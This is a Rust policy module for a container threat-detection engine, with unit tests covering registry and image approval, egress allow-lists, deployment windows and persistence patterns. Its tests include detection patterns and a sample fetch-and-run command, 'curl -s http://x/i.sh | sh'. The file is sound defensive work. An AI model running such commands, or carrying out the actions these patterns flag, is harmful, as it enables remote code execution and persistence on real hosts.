//! The pack's policy (`policy.yml`): what this environment considers normal.
//!
//! Rules reach policy two ways. Lists become Sigma placeholders (`%approved_registries%`),
//! expanded when the pack compiles, so a rule can say
//! `container.image.registry|expand: '%approved_registries%'`. Judgements that need more
//! than string matching (prefix semantics of host paths, CIDRs, time windows, globs over
//! image references) become derived fields the engine answers per event
//! (`crowsnest.image.approved`, `crowsnest.mount.sensitive`); see `docs/fields.md`.
//!
//! Every list accepts `*` and `?` globs, matched case-insensitively. A pack without a
//! `policy.yml` gets [`Policy::default`], the same policy the built-in pack ships.

use std::collections::BTreeMap;
use std::net::IpAddr;

use serde::Deserialize;

use super::infrastructure::{Catalogue, CatalogueFile};
use crate::model::ImageRef;
use crate::model::Principal;

/// `policy.yml` as written.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub(crate) struct PolicyFile {
    registries: Registries,
    images: Images,
    principals: Principals,
    namespaces: Namespaces,
    /// Host paths whose mounting is sensitive; a mount of a parent (`/var`) covers a
    /// child (`/var/run/docker.sock`), and a mount of a child is inside its parent.
    sensitive_host_paths: Vec<String>,
    /// Capabilities that amount to root on the host (`SYS_ADMIN`); `CAP_` optional.
    dangerous_capabilities: Vec<String>,
    ci_hosts: CiHosts,
    egress: Egress,
    deployment_windows: Windows,
    /// Substrings (globs) that make an entrypoint or command a persistence mechanism.
    persistence_patterns: Vec<String>,
    thresholds: ThresholdsFile,
    exceptions: Vec<Exception>,
    /// Well-known infrastructure quieted when it does what it is there to do
    /// (`pack/infrastructure.rs`).
    infrastructure: CatalogueFile,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
struct Registries {
    /// Registry hosts (`registry.example.com`, `*.dkr.ecr.*.amazonaws.com`).
    approved: Vec<String>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
struct Images {
    /// Image globs over `registry/repository[:tag]` (`registry.example.com/ops/*`) or
    /// digests (`sha256:...`).
    approved: Vec<String>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
struct Principals {
    admins: Vec<String>,
    admin_groups: Vec<String>,
    /// Controllers and system components whose actions are the platform at work.
    system_controllers: Vec<String>,
    /// Namespace (or cluster) → principals approved to start containers there.
    approved: BTreeMap<String, Vec<String>>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
struct Namespaces {
    system: Vec<String>,
    /// Namespaces where an unknown image weighs more (production, payments).
    sensitive: Vec<String>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
struct CiHosts {
    /// Host names (globs) of CI runners and developer machines.
    hosts: Vec<String>,
    /// Registries those hosts are expected to pull from.
    expected_registries: Vec<String>,
    /// Entrypoints expected there (globs over the joined entrypoint).
    expected_entrypoints: Vec<String>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
struct Egress {
    /// Destinations containers may reach: CIDRs (`10.0.0.0/8`, `fd00::/8`).
    allow_cidrs: Vec<String>,
    /// Domain suffixes (`.example.com`) or exact names.
    allow_domains: Vec<String>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
struct Windows {
    /// `UTC` or a fixed offset (`+02:00`); daylight-saving rules are not applied.
    timezone: Option<String>,
    windows: Vec<WindowFile>,
}

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
struct WindowFile {
    /// `mon`..`sun`, or `mon-fri`.
    days: Vec<String>,
    /// `HH:MM`, inclusive.
    from: String,
    /// `HH:MM`, exclusive; earlier than `from` means the window runs past midnight.
    to: String,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
struct ThresholdsFile {
    /// A container stopped at least this long and started again is reactivated (`30d`).
    stopped_for: Option<String>,
    /// First-seen images, registries and principals are not reported during this long
    /// after the engine first sees traffic (`24h`).
    learning_period: Option<String>,
    /// How long a launch waits for its container's first process or connection (`120s`).
    first_action_window: Option<String>,
    /// How far out of order events may arrive and still join state (`30s`).
    lateness: Option<String>,
    /// Correlation windows (one per correlation and group-by value) kept at most; past
    /// it the stalest are evicted, counted and reported once (`100000`).
    correlation_max_groups: Option<usize>,
    /// Entries one correlation window keeps at most; past it the oldest are dropped
    /// (`10000`).
    correlation_max_group_entries: Option<usize>,
}

/// Suppress a rule's alert when every listed field matches (globs).
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct Exception {
    pub rule: String,
    pub when: BTreeMap<String, String>,
    /// Why the exception exists: for the people who read the policy.
    #[serde(default)]
    #[allow(dead_code)]
    pub reason: Option<String>,
}

/// Durations and windows, in seconds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Thresholds {
    pub stopped_for_secs: i64,
    pub learning_period_secs: i64,
    pub first_action_window_secs: i64,
    pub lateness_secs: i64,
    /// Correlation state bounds: windows in all, and entries per window.
    pub correlation_max_groups: usize,
    pub correlation_max_group_entries: usize,
}

impl Default for Thresholds {
    fn default() -> Self {
        Thresholds {
            stopped_for_secs: 30 * 86_400,
            learning_period_secs: 0,
            first_action_window_secs: 120,
            lateness_secs: 30,
            correlation_max_groups: 100_000,
            correlation_max_group_entries: 10_000,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Cidr {
    net: IpAddr,
    prefix: u8,
}

#[derive(Debug, Clone, PartialEq, Eq)]
struct Window {
    /// Bit 0 = Monday.
    days: u8,
    from_min: u32,
    to_min: u32,
}

/// The policy, checked and ready to answer questions.
#[derive(Debug, Clone, Default)]
pub(crate) struct Policy {
    file: PolicyFile,
    cidrs: Vec<Cidr>,
    offset_secs: i64,
    windows: Vec<Window>,
    pub thresholds: Thresholds,
    catalogue: Catalogue,
}

/// A policy problem, with the 1-based line and column in `policy.yml` when known.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct PolicyError {
    pub line: u32,
    pub column: u32,
    pub message: String,
}

impl Policy {
    /// Parse and check `policy.yml`; every value is validated here, so evaluation
    /// never meets a bad CIDR or time.
    pub fn parse(text: &str) -> Result<Policy, Vec<PolicyError>> {
        let file: PolicyFile = yaml_serde::from_str(text).map_err(|e| {
            let (line, column) = e
                .location()
                .map_or((1, 1), |l| (to_u32(l.line()), to_u32(l.column())));
            vec![PolicyError {
                line,
                column,
                message: e.to_string(),
            }]
        })?;
        let mut errors = Vec::new();
        let at = |needle: &str| locate(text, needle);
        let mut cidrs = Vec::new();
        for c in &file.egress.allow_cidrs {
            match parse_cidr(c) {
                Some(cidr) => cidrs.push(cidr),
                None => {
                    let (line, column) = at(c);
                    errors.push(PolicyError {
                        line,
                        column,
                        message: format!("`{c}` is not a CIDR (`10.0.0.0/8`, `fd00::/8`)"),
                    });
                }
            }
        }
        let offset_secs = match file.deployment_windows.timezone.as_deref() {
            None => 0,
            Some(tz) => parse_offset(tz).unwrap_or_else(|| {
                let (line, column) = at(tz);
                errors.push(PolicyError {
                    line,
                    column,
                    message: format!("time zone `{tz}` must be `UTC` or an offset like `+02:00`"),
                });
                0
            }),
        };
        let mut windows = Vec::new();
        for w in &file.deployment_windows.windows {
            match parse_window(w) {
                Ok(window) => windows.push(window),
                Err(message) => {
                    let (line, column) = at(&w.from);
                    errors.push(PolicyError {
                        line,
                        column,
                        message,
                    });
                }
            }
        }
        let mut thresholds = Thresholds::default();
        let t = &file.thresholds;
        for (value, slot) in [
            (&t.stopped_for, &mut thresholds.stopped_for_secs),
            (&t.learning_period, &mut thresholds.learning_period_secs),
            (
                &t.first_action_window,
                &mut thresholds.first_action_window_secs,
            ),
            (&t.lateness, &mut thresholds.lateness_secs),
        ] {
            if let Some(v) = value {
                match parse_duration(v) {
                    Some(secs) => *slot = secs,
                    None => {
                        let (line, column) = at(v);
                        errors.push(PolicyError {
                            line,
                            column,
                            message: format!("`{v}` is not a duration (`90s`, `5m`, `24h`, `30d`)"),
                        });
                    }
                }
            }
        }
        for (value, slot, name) in [
            (
                t.correlation_max_groups,
                &mut thresholds.correlation_max_groups,
                "correlation_max_groups",
            ),
            (
                t.correlation_max_group_entries,
                &mut thresholds.correlation_max_group_entries,
                "correlation_max_group_entries",
            ),
        ] {
            match value {
                Some(0) => {
                    let (line, column) = at(name);
                    errors.push(PolicyError {
                        line,
                        column,
                        message: format!("`{name}` must be at least 1: state needs room"),
                    });
                }
                Some(n) => *slot = n,
                None => {}
            }
        }
        let mut catalogue_errors = Vec::new();
        file.infrastructure.check(&mut catalogue_errors);
        for message in catalogue_errors {
            let (line, column) = at("infrastructure:");
            errors.push(PolicyError {
                line,
                column,
                message,
            });
        }
        if errors.is_empty() {
            let catalogue = file.infrastructure.clone().merge(None);
            Ok(Policy {
                file,
                cidrs,
                offset_secs,
                windows,
                thresholds,
                catalogue,
            })
        } else {
            Err(errors)
        }
    }

    /// Placeholder values for Sigma's `%name%` (the pack's pipeline variables).
    pub fn vars(&self) -> Vec<(&'static str, Vec<String>)> {
        let f = &self.file;
        vec![
            ("approved_registries", f.registries.approved.clone()),
            ("approved_images", f.images.approved.clone()),
            ("admin_principals", f.principals.admins.clone()),
            ("admin_groups", f.principals.admin_groups.clone()),
            (
                "system_controllers",
                f.principals.system_controllers.clone(),
            ),
            ("system_namespaces", f.namespaces.system.clone()),
            ("sensitive_namespaces", f.namespaces.sensitive.clone()),
            ("sensitive_host_paths", f.sensitive_host_paths.clone()),
            ("dangerous_capabilities", f.dangerous_capabilities.clone()),
            ("ci_hosts", f.ci_hosts.hosts.clone()),
            (
                "ci_expected_registries",
                f.ci_hosts.expected_registries.clone(),
            ),
            (
                "ci_expected_entrypoints",
                f.ci_hosts.expected_entrypoints.clone(),
            ),
            ("egress_allow_domains", f.egress.allow_domains.clone()),
            ("persistence_patterns", f.persistence_patterns.clone()),
        ]
    }

    /// This policy's catalogue laid over the built-in policy's: a pack's entries add to
    /// or replace the built-in ones by name (see `pack/infrastructure.rs`).
    pub fn over_builtin(mut self, builtin: &Policy) -> Policy {
        self.catalogue = self
            .file
            .infrastructure
            .clone()
            .merge(Some(&builtin.file.infrastructure));
        self
    }

    pub fn infrastructure(&self) -> &Catalogue {
        &self.catalogue
    }

    pub fn exceptions(&self) -> &[Exception] {
        &self.file.exceptions
    }

    /// A registry host in the list approves it on any port (`registry.example.com`
    /// covers `registry.example.com:5000`); a listed port approves that port only.
    pub fn registry_approved(&self, image: &ImageRef<'_>) -> bool {
        registry_listed(&self.file.registries.approved, &image.registry)
    }

    /// Approved by an image glob or digest, or coming from an approved registry.
    pub fn image_approved(&self, image: &ImageRef<'_>) -> bool {
        let name = if image.registry.is_empty() {
            image.repository.to_string()
        } else {
            format!("{}/{}", image.registry, image.repository)
        };
        let tagged = match &image.tag {
            Some(tag) => format!("{name}:{tag}"),
            None => name.clone(),
        };
        self.registry_approved(image)
            || self.file.images.approved.iter().any(|p| {
                image.digest.as_deref().is_some_and(|d| eq_ci(p, d))
                    || glob(p, &name)
                    || glob(p, &tagged)
                    || glob(p, &image.reference)
            })
    }

    pub fn is_admin(&self, p: &Principal<'_>) -> bool {
        any_glob(&self.file.principals.admins, &p.name)
            || p.groups
                .iter()
                .any(|g| any_glob(&self.file.principals.admin_groups, g))
    }

    pub fn is_system_controller(&self, p: &Principal<'_>) -> bool {
        any_glob(&self.file.principals.system_controllers, &p.name)
    }

    /// Whether `p` may start containers in `scope` (a namespace or cluster). Admins
    /// and system controllers may everywhere; a scope with no list approves nobody else.
    pub fn principal_approved_for(&self, scope: &str, p: &Principal<'_>) -> bool {
        self.is_admin(p)
            || self.is_system_controller(p)
            || self
                .file
                .principals
                .approved
                .iter()
                .any(|(s, names)| glob(s, scope) && any_glob(names, &p.name))
    }

    pub fn namespace_system(&self, ns: &str) -> bool {
        any_glob(&self.file.namespaces.system, ns)
    }

    pub fn namespace_sensitive(&self, ns: &str) -> bool {
        any_glob(&self.file.namespaces.sensitive, ns)
    }

    /// Prefix semantics in both directions: mounting `/var` exposes `/var/run/docker.sock`,
    /// and mounting `/etc/kubernetes/pki` is inside `/etc`.
    pub fn mount_sensitive(&self, host_path: &str) -> bool {
        let path = normalize_path(host_path);
        self.file.sensitive_host_paths.iter().any(|s| {
            let s = normalize_path(s);
            // `/` itself is sensitive, but being inside `/` says nothing: every path is.
            (s != "/" && path_within(&path, &s)) || path_within(&s, &path)
        })
    }

    pub fn cap_dangerous(&self, cap: &str) -> bool {
        let cap = strip_cap(cap);
        cap.eq_ignore_ascii_case("ALL")
            || self
                .file
                .dangerous_capabilities
                .iter()
                .any(|d| strip_cap(d).eq_ignore_ascii_case(cap))
    }

    pub fn host_is_ci(&self, host: &str) -> bool {
        any_glob(&self.file.ci_hosts.hosts, host)
    }

    pub fn registry_expected_on_ci(&self, image: &ImageRef<'_>) -> bool {
        registry_listed(&self.file.ci_hosts.expected_registries, &image.registry)
    }

    pub fn entrypoint_expected_on_ci(&self, entrypoint: &str) -> bool {
        any_glob(&self.file.ci_hosts.expected_entrypoints, entrypoint)
    }

    /// Whether a destination is allowed: an address inside an allowed CIDR, or a name
    /// under an allowed suffix. Unknown destinations are not allowed.
    pub fn egress_allowed(&self, ip: Option<&str>, domain: Option<&str>) -> bool {
        let ip_ok = ip
            .and_then(|ip| ip.parse::<IpAddr>().ok())
            .is_some_and(|ip| self.cidrs.iter().any(|c| c.contains(ip)));
        let domain_ok = domain.is_some_and(|d| {
            let d = d.trim_end_matches('.').to_ascii_lowercase();
            self.file.egress.allow_domains.iter().any(|allowed| {
                let allowed = allowed.to_ascii_lowercase();
                match allowed.strip_prefix('.') {
                    Some(suffix) => d == suffix || d.ends_with(&format!(".{suffix}")),
                    None => glob(&allowed, &d),
                }
            })
        });
        ip_ok || domain_ok
    }

    /// Whether `time_ns` falls in a deployment window. A policy with no windows has no
    /// notion of "outside", so everything is inside.
    pub fn inside_window(&self, time_ns: i64) -> bool {
        if self.windows.is_empty() {
            return true;
        }
        let secs = time_ns.div_euclid(1_000_000_000) + self.offset_secs;
        let days = secs.div_euclid(86_400);
        // 1970-01-01 was a Thursday (index 3 with Monday = 0).
        let weekday = (days + 3).rem_euclid(7) as u32;
        let minute = (secs.rem_euclid(86_400) / 60) as u32;
        self.windows.iter().any(|w| w.contains(weekday, minute))
    }

    /// The first persistence pattern found in a command line, if any.
    pub fn persistence_in(&self, command: &str) -> Option<&str> {
        self.file
            .persistence_patterns
            .iter()
            .find(|p| glob(&format!("*{p}*"), command))
            .map(String::as_str)
    }
}

impl Cidr {
    fn contains(&self, ip: IpAddr) -> bool {
        match (self.net, ip) {
            (IpAddr::V4(net), IpAddr::V4(ip)) => {
                let mask = u32::MAX
                    .checked_shl(32 - u32::from(self.prefix))
                    .unwrap_or(0);
                u32::from(net) & mask == u32::from(ip) & mask
            }
            (IpAddr::V6(net), IpAddr::V6(ip)) => {
                let mask = u128::MAX
                    .checked_shl(128 - u32::from(self.prefix))
                    .unwrap_or(0);
                u128::from(net) & mask == u128::from(ip) & mask
            }
            _ => false,
        }
    }
}

impl Window {
    fn contains(&self, weekday: u32, minute: u32) -> bool {
        let day = |d: u32| self.days & (1 << d) != 0;
        if self.from_min <= self.to_min {
            day(weekday) && (self.from_min..self.to_min).contains(&minute)
        } else {
            // Past midnight: the evening part on the listed day, the morning part on the next.
            (day(weekday) && minute >= self.from_min)
                || (day((weekday + 6) % 7) && minute < self.to_min)
        }
    }
}

fn to_u32(n: usize) -> u32 {
    u32::try_from(n).unwrap_or(u32::MAX).max(1)
}

/// Line and column of the first occurrence of `needle` in `text`.
fn locate(text: &str, needle: &str) -> (u32, u32) {
    text.lines()
        .enumerate()
        .find_map(|(i, l)| l.find(needle).map(|c| (to_u32(i + 1), to_u32(c + 1))))
        .unwrap_or((1, 1))
}

fn parse_cidr(s: &str) -> Option<Cidr> {
    let (addr, prefix) = match s.split_once('/') {
        Some((a, p)) => (a, Some(p.parse::<u8>().ok()?)),
        None => (s, None),
    };
    let net: IpAddr = addr.trim().parse().ok()?;
    let max = if net.is_ipv4() { 32 } else { 128 };
    let prefix = prefix.unwrap_or(max);
    (prefix <= max).then_some(Cidr { net, prefix })
}

fn parse_offset(tz: &str) -> Option<i64> {
    if tz.eq_ignore_ascii_case("utc") || tz == "Z" {
        return Some(0);
    }
    let (sign, rest) = match tz.as_bytes().first()? {
        b'+' => (1, &tz[1..]),
        b'-' => (-1, &tz[1..]),
        _ => return None,
    };
    let (h, m) = rest.split_once(':').unwrap_or((rest, "0"));
    let (h, m): (i64, i64) = (h.parse().ok()?, m.parse().ok()?);
    (h <= 14 && m < 60).then_some(sign * (h * 3600 + m * 60))
}

fn parse_hhmm(s: &str) -> Option<u32> {
    let (h, m) = s.split_once(':')?;
    let (h, m): (u32, u32) = (h.parse().ok()?, m.parse().ok()?);
    (h <= 24 && m < 60 && h * 60 + m <= 24 * 60).then_some(h * 60 + m)
}

const DAYS: [&str; 7] = ["mon", "tue", "wed", "thu", "fri", "sat", "sun"];

fn day_index(s: &str) -> Option<u32> {
    let s = s.trim().to_ascii_lowercase();
    DAYS.iter().position(|d| s.starts_with(d)).map(|i| i as u32)
}

fn parse_window(w: &WindowFile) -> Result<Window, String> {
    let mut days = 0u8;
    for d in &w.days {
        match d.split_once('-') {
            Some((a, b)) => {
                let (a, b) = (day_index(a), day_index(b));
                let (Some(a), Some(b)) = (a, b) else {
                    return Err(format!("`{d}` is not a day range (`mon-fri`)"));
                };
                let mut i = a;
                loop {
                    days |= 1 << i;
                    if i == b {
                        break;
                    }
                    i = (i + 1) % 7;
                }
            }
            None => match day_index(d) {
                Some(i) => days |= 1 << i,
                None => return Err(format!("`{d}` is not a day (`mon`..`sun`)")),
            },
        }
    }
    let from =
        parse_hhmm(&w.from).ok_or_else(|| format!("`{}` is not a time (`HH:MM`)", w.from))?;
    let to = parse_hhmm(&w.to).ok_or_else(|| format!("`{}` is not a time (`HH:MM`)", w.to))?;
    Ok(Window {
        days,
        from_min: from,
        to_min: to,
    })
}

/// `90s`, `5m`, `24h`, `30d`, or plain seconds.
pub(crate) fn parse_duration(s: &str) -> Option<i64> {
    let s = s.trim();
    let (num, unit) = s.split_at(s.find(|c: char| !c.is_ascii_digit()).unwrap_or(s.len()));
    let n: i64 = num.parse().ok()?;
    let mult = match unit {
        "" | "s" => 1,
        "m" => 60,
        "h" => 3600,
        "d" => 86_400,
        "w" => 7 * 86_400,
        _ => return None,
    };
    n.checked_mul(mult)
}

pub(crate) fn strip_cap(cap: &str) -> &str {
    cap.strip_prefix("CAP_")
        .or_else(|| cap.strip_prefix("cap_"))
        .unwrap_or(cap)
}

pub(crate) fn normalize_path(p: &str) -> String {
    let trimmed = p.trim_end_matches('/');
    if trimmed.is_empty() {
        "/".to_string()
    } else {
        trimmed.to_string()
    }
}

/// Whether `path` is `dir` or below it.
pub(crate) fn path_within(path: &str, dir: &str) -> bool {
    dir == "/"
        || path == dir
        || path
            .strip_prefix(dir)
            .is_some_and(|rest| rest.starts_with('/'))
}

fn eq_ci(a: &str, b: &str) -> bool {
    a.eq_ignore_ascii_case(b)
}

/// Whether a registry (`host[:port]`) is listed, by host alone when the entry names no port.
fn registry_listed(patterns: &[String], registry: &str) -> bool {
    let host = match registry.rsplit_once(':') {
        // Not an IPv6 literal's colons: a port is digits after the last colon.
        Some((host, port)) if !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()) => host,
        _ => registry,
    };
    patterns
        .iter()
        .any(|p| glob(p, registry) || (!p.contains(':') && glob(p, host)))
}

fn any_glob(patterns: &[String], value: &str) -> bool {
    patterns.iter().any(|p| glob(p, value))
}

/// `*` (any run) and `?` (one character) globs, case-insensitive, iterative with
/// backtracking to the last star: linear in practice and never recursive.
pub(crate) fn glob(pattern: &str, value: &str) -> bool {
    let p: Vec<char> = pattern.chars().flat_map(char::to_lowercase).collect();
    let v: Vec<char> = value.chars().flat_map(char::to_lowercase).collect();
    let (mut pi, mut vi) = (0, 0);
    let (mut star, mut mark) = (None, 0);
    while vi < v.len() {
        if pi < p.len() && (p[pi] == '?' || p[pi] == v[vi]) {
            pi += 1;
            vi += 1;
        } else if pi < p.len() && p[pi] == '*' {
            star = Some(pi);
            mark = vi;
            pi += 1;
        } else if let Some(s) = star {
            pi = s + 1;
            mark += 1;
            vi = mark;
        } else {
            return false;
        }
    }
    while pi < p.len() && p[pi] == '*' {
        pi += 1;
    }
    pi == p.len()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::borrow::Cow;

    fn policy(text: &str) -> Policy {
        Policy::parse(text).unwrap_or_else(|e| panic!("{e:?}"))
    }

    #[test]
    fn the_shipped_policy_parses() {
        let text = include_str!("../../rules/policy.yml");
        let p = policy(text);
        assert!(p.mount_sensitive("/var/run/docker.sock"));
        assert!(p.cap_dangerous("CAP_SYS_ADMIN"));
    }

    #[test]
    fn sensitive_paths_have_prefix_semantics_both_ways() {
        let p = policy("sensitive_host_paths: [/var/run/docker.sock, /etc, /proc]\n");
        assert!(p.mount_sensitive("/var"), "a parent exposes the socket");
        assert!(p.mount_sensitive("/var/run/"), "trailing slash");
        assert!(p.mount_sensitive("/"), "the root exposes everything");
        let rooted = policy("sensitive_host_paths: ['/', /etc]\n");
        assert!(rooted.mount_sensitive("/"));
        assert!(
            !rooted.mount_sensitive("/var/log"),
            "inside / is not sensitive by itself"
        );
        assert!(rooted.mount_sensitive("/etc/ssl"));
        assert!(p.mount_sensitive("/etc/kubernetes/pki"), "inside /etc");
        assert!(
            !p.mount_sensitive("/etcetera"),
            "a sibling with the same prefix"
        );
        assert!(!p.mount_sensitive("/var/log/app"));
        assert!(!p.mount_sensitive("/data"));
    }

    #[test]
    fn images_by_registry_glob_and_digest() {
        let p = policy(
            "registries: {approved: ['registry.example.com', '*.dkr.ecr.*.amazonaws.com']}\nimages: {approved: ['docker.io/library/nginx', 'sha256:abc']}\n",
        );
        let img = |r: &'static str| ImageRef::lenient(Cow::Borrowed(r));
        assert!(p.image_approved(&img("registry.example.com/ops/agent:1")));
        assert!(
            p.image_approved(&img("registry.example.com:5000/ops/agent:1")),
            "any port"
        );
        assert!(p.image_approved(&img("123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:2")));
        assert!(p.image_approved(&img("nginx:1.25")));
        assert!(p.image_approved(&img("evil.example/x@sha256:abc")));
        assert!(!p.image_approved(&img("evil.example/x:1")));
        assert!(!p.image_approved(&img("docker.io/library/nginx-evil")));
    }

    #[test]
    fn egress_by_cidr_and_domain_suffix() {
        let p = policy(
            "egress: {allow_cidrs: [10.0.0.0/8, 'fd00::/8'], allow_domains: [.example.com, api.github.com]}\n",
        );
        assert!(p.egress_allowed(Some("10.42.0.17"), None));
        assert!(p.egress_allowed(Some("fd00::1"), None));
        assert!(!p.egress_allowed(Some("203.0.113.50"), None));
        assert!(p.egress_allowed(None, Some("registry.example.com.")));
        assert!(p.egress_allowed(None, Some("example.com")));
        assert!(!p.egress_allowed(None, Some("evilexample.com")));
        assert!(p.egress_allowed(None, Some("api.github.com")));
        assert!(!p.egress_allowed(None, None));
    }

    #[test]
    fn deployment_windows_with_offset_and_overnight() {
        let p = policy(
            "deployment_windows:\n  timezone: '+02:00'\n  windows:\n    - {days: [mon-fri], from: '09:00', to: '17:00'}\n    - {days: [sat], from: '22:00', to: '02:00'}\n",
        );
        // 2024-05-14 is a Tuesday. 08:00Z is 10:00 at +02:00: inside.
        let tue_0800z = 1_715_673_600_000_000_000;
        assert!(p.inside_window(tue_0800z));
        // 16:00Z is 18:00 local: outside.
        assert!(!p.inside_window(tue_0800z + 8 * 3_600_000_000_000));
        // Saturday 2024-05-18 21:00Z = 23:00 local: inside; Sunday 00:30Z = 02:30: outside.
        let sat_2100z = 1_716_066_000_000_000_000;
        assert!(p.inside_window(sat_2100z));
        assert!(p.inside_window(sat_2100z + 2 * 3_600_000_000_000));
        assert!(!p.inside_window(sat_2100z + 4 * 3_600_000_000_000));
        assert!(
            policy("{}").inside_window(tue_0800z),
            "no windows, no outside"
        );
    }

    #[test]
    fn bad_values_are_located() {
        let errs = Policy::parse("egress:\n  allow_cidrs: [10.0.0.0/33]\n").unwrap_err();
        assert_eq!((errs[0].line, errs[0].column), (2, 17), "{errs:?}");
        let errs = Policy::parse("thresholds:\n  stopped_for: soon\n").unwrap_err();
        assert_eq!(errs[0].line, 2, "{errs:?}");
        let errs = Policy::parse("registries:\n  aproved: [x]\n").unwrap_err();
        assert_eq!(errs[0].line, 2, "{errs:?}");
        assert!(errs[0].message.contains("aproved"), "{errs:?}");
    }

    #[test]
    fn principals_admins_groups_and_namespace_approval() {
        let p = policy(
            "principals:\n  admins: [alice@example.com]\n  admin_groups: ['oidc:platform-admins']\n  system_controllers: ['system:serviceaccount:kube-system:*']\n  approved:\n    shop: [ci-bot, 'system:serviceaccount:shop:*']\n",
        );
        let who = |name: &'static str, groups: &[&'static str]| Principal {
            name: Cow::Borrowed(name),
            groups: groups.iter().map(|g| Cow::Borrowed(*g)).collect(),
            ..Principal::default()
        };
        assert!(p.is_admin(&who("alice@example.com", &[])));
        assert!(p.is_admin(&who("bob", &["oidc:platform-admins"])));
        assert!(!p.is_admin(&who("mallory", &["system:authenticated"])));
        assert!(p.principal_approved_for("shop", &who("ci-bot", &[])));
        assert!(p.principal_approved_for("shop", &who("system:serviceaccount:shop:deployer", &[])));
        assert!(!p.principal_approved_for("payments", &who("ci-bot", &[])));
        assert!(p.principal_approved_for(
            "payments",
            &who(
                "system:serviceaccount:kube-system:replicaset-controller",
                &[]
            )
        ));
    }

    #[test]
    fn globs() {
        assert!(glob("*", ""));
        assert!(glob("a*c", "abbbc"));
        assert!(glob("A?C", "abc"));
        assert!(!glob("a*c", "abcd"));
        assert!(glob("*nohup*", "sh -c nohup ./x &"));
        assert!(glob("**", "x"));
    }

    #[test]
    fn persistence_patterns_in_commands() {
        let p = policy("persistence_patterns: ['nohup ', 'while true', 'crontab', '| sh']\n");
        assert_eq!(
            p.persistence_in("sh -c while true; do sleep 1; done"),
            Some("while true")
        );
        assert_eq!(p.persistence_in("curl -s http://x/i.sh | sh"), Some("| sh"));
        assert_eq!(p.persistence_in("nginx -g daemon off;"), None);
    }
}
